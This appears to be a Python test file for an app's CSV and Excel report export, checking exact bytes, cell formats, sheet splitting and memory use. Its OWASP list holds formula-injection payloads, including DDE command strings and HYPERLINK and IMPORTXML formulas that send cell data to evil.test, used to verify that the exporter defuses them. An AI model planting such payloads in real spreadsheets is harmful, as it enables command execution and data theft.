"""Tables as files: exact bytes, exact cells, and nothing a spreadsheet would calculate."""

import asyncio
import io
import subprocess
import sys
import tempfile
from collections.abc import AsyncIterator, Sequence
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.domain.money import Money
from app.reports import xlsx_file
from app.reports.plain_text import defused, is_formula
from app.reports.table import Column, Kind, Row, Table
from tests.reports.tables import csv_bytes, csv_rows, sheets, table, xlsx_bytes

COLUMNS = (
    Column("Who", width=30),
    Column("Seats", Kind.NUMBER),
    Column("Saving", Kind.MONEY),
    Column("Since", Kind.DAY),
    Column("Seen", Kind.INSTANT),
)
BERLIN = timezone(timedelta(hours=1))
SEEN = datetime(2026, 11, 23, 9, 30, tzinfo=BERLIN)
ANNA: Row = ("Anna", 3, Money(Decimal("-12.30"), "EUR"), date(2026, 11, 1), SEEN)
UNKNOWN: Row = ('Größe, "7"\nneu', None, None, None, None)

OWASP = [
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless",
    "\rharmless",
    "\nharmless",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "　＝1+1",
]


def _plain(text: str) -> datetime:
    """A time as workbooks have it: without a zone."""
    return datetime.fromisoformat(text)


async def test_a_csv_file_is_what_excel_and_the_standard_expect() -> None:
    content = await csv_bytes(table(COLUMNS, [ANNA], [UNKNOWN]))

    assert content == (
        b'\xef\xbb\xbfWho,Seats,Saving,"Saving, currency",Since,Seen\r\n'
        b"Anna,3,-12.30,EUR,2026-11-01,2026-11-23T08:30:00Z\r\n"
        b'"Gr\xc3\xb6\xc3\x9fe, ""7""\nneu",,,,,\r\n'
    )


async def test_a_workbook_has_numbers_days_and_currencies_of_their_kind() -> None:
    content = await xlsx_bytes(table(COLUMNS, [ANNA], [UNKNOWN], about=[("Tenant", "=Contoso"), ("Unknown", "empty")]))

    assert sheets(content) == {
        "Seats": [
            ("Who", "Seats", "Saving", "Since", "Seen (UTC)"),
            ("Anna", 3, -12.3, _plain("2026-11-01"), _plain("2026-11-23T08:30")),
            ('Größe, "7"\nneu', None, None, None, None),
        ],
        "About": [("Tenant", "=Contoso"), ("Unknown", "empty")],
    }
    sheet = load_workbook(io.BytesIO(content))["Seats"]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == pytest.approx(30, abs=1)
    assert [sheet[cell].number_format for cell in ("B2", "C2", "D2")] == ["#,##0", '#,##0.00 "EUR"', "yyyy-mm-dd"]


@pytest.mark.parametrize(
    ("currency", "shown"), [("JPY", '#,##0 "JPY"'), ("KWD", '#,##0.000 "KWD"'), ("USD", '#,##0.00 "USD"')]
)
async def test_an_amount_shows_the_places_its_currency_has(currency: str, shown: str) -> None:
    content = await xlsx_bytes(table([Column("Cost", Kind.MONEY)], [[Money(Decimal(7), currency)]]))

    assert load_workbook(io.BytesIO(content))["Seats"]["A2"].number_format == shown


async def test_the_same_table_gives_the_same_bytes() -> None:
    assert await xlsx_bytes(table(COLUMNS, [ANNA])) == await xlsx_bytes(table(COLUMNS, [ANNA]))


async def test_a_table_longer_than_a_sheet_goes_on_in_another() -> None:
    content = await xlsx_bytes(table([Column("N", Kind.NUMBER)], [[1], [2], [3], [4], [5]]), rows_max=3)

    found = sheets(content)

    assert list(found) == ["Seats", "Seats 2", "Seats 3", "About"]
    assert [found[name] for name in list(found)[:3]] == [
        [("N",), (1,), (2,)],
        [("N",), (3,), (4,)],
        [("N",), (5,)],
    ]


async def test_text_longer_than_a_cell_holds_ends_in_an_ellipsis() -> None:
    (_, (cell,)) = sheets(await xlsx_bytes(table([Column("Text")], [["a" * 40_000]])))["Seats"]

    assert (len(cell), cell[-2:]) == (32_767, "a…")


@pytest.mark.parametrize("text", OWASP)
async def test_a_formula_is_text_in_csv(text: str) -> None:
    (_, (cell, _)) = csv_rows(await csv_bytes(table([Column("Text"), Column("Next")], [[text, "end"]])))

    assert cell == f"'{text}" or cell.replace("'", "") == text.replace("'", "")
    assert cell[0] == "'"


@pytest.mark.parametrize("text", OWASP)
async def test_a_formula_is_text_in_a_workbook(text: str) -> None:
    content = await xlsx_bytes(table([Column("Text")], [[text]]))

    cell = load_workbook(io.BytesIO(content))["Seats"]["A2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


@pytest.mark.parametrize("text", ["https://contoso.test/", "mailto:a@b.test", "12", "1e5", "internal:Sheet!A1"])
async def test_an_address_is_no_link_and_digits_are_no_number(text: str) -> None:
    cell = load_workbook(io.BytesIO(await xlsx_bytes(table([Column("Text")], [[text]]))))["Seats"]["A2"]

    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


@pytest.mark.parametrize("text", ["Sales", "a=b", "R&D - Europe", "x@contoso.test", "Müller-Lüdenscheidt", "", "5-3"])
def test_text_that_is_no_formula_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("text", ["Sales;=1+1", "Sales; \t@SUM(1)", 'Sales;"=1+1', "Sales\t-1", "Sales\n+1;=2"])
def test_no_cell_begins_with_a_formula_where_other_separators_are_used(text: str) -> None:
    parts = defused(text).replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")

    assert [part for part in parts if part.strip("\"' ") and is_formula(part) and not part.startswith("'")] == []


@given(st.text(st.sampled_from("=+-@＝;\t\r\n '\"a1\u00a0\ufeff"), max_size=12))
def test_no_text_leaves_as_a_formula(text: str) -> None:
    told = defused(text)

    assert not is_formula(told) or told[0] == "'"
    assert told.replace("'", "") == text.replace("'", "")


async def test_nothing_is_left_of_a_workbook_that_was_given_up(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    begun = asyncio.Event()

    async def endless() -> AsyncIterator[Sequence[Row]]:
        while True:
            yield [["row"]] * 1000
            begun.set()

    async def write() -> None:
        async with xlsx_file.written(Table("Seats", [Column("Text")], endless(), ())):
            pass

    writing = asyncio.create_task(write())
    await begun.wait()
    writing.cancel()
    with pytest.raises(asyncio.CancelledError):
        await writing

    assert list(tmp_path.iterdir()) == []


_GROWTH = """
import asyncio, resource, sys
from datetime import UTC, datetime
from decimal import Decimal
from app.domain.money import Money
from app.reports import csv_file, xlsx_file
from app.reports.table import Column, Kind, Table

COLUMNS = [Column("A"), Column("B"), Column("C", Kind.NUMBER), Column("D", Kind.MONEY), Column("E", Kind.INSTANT)]

async def rows(count):
    for first in range(0, count, 1000):
        yield [
            [f"Person {n}", f"Department {n} of many", n, Money(Decimal(n), "EUR"), datetime(2026, 1, 1, tzinfo=UTC)]
            for n in range(first, first + 1000)
        ]

async def write(kind, count):
    table = Table("T", COLUMNS, rows(count), ())
    size = 0
    if kind == "csv":
        async for chunk in csv_file.chunks(table):
            size += len(chunk)
    else:
        async with xlsx_file.written(table) as path:
            async for chunk in xlsx_file.chunks(path):
                size += len(chunk)
    return size

def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024

asyncio.run(write(sys.argv[1], 1000))
before = peak()
size = asyncio.run(write(sys.argv[1], 100_000))
print(size, peak() - before)
"""


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_hundred_thousand_rows_take_no_more_memory_than_a_thousand(kind: str) -> None:
    told = subprocess.run(
        [sys.executable, "-c", _GROWTH, kind],
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).parents[2],
    )

    size, growth_mb = map(float, told.stdout.split())
    assert size > 1_000_000
    assert growth_mb < 30
